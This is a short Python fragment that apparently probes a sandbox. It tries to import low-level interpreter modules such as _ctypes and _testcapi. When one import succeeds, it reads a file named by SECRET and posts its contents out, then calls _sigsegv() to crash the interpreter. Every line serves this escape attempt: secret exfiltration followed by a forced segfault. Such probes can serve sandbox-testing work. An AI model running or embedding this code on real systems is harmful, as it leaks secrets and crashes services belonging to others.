for name in ("_ctypes", "_interpreters", "_interpchannels", "_testcapi", "_testinternalcapi", "_remote_debugging", "faulthandler", "_posixshmem"):
    module = attempt(__import__, name)
    if module:
        post(SECRET and open(SECRET).read())
    attempt(lambda: module._sigsegv())
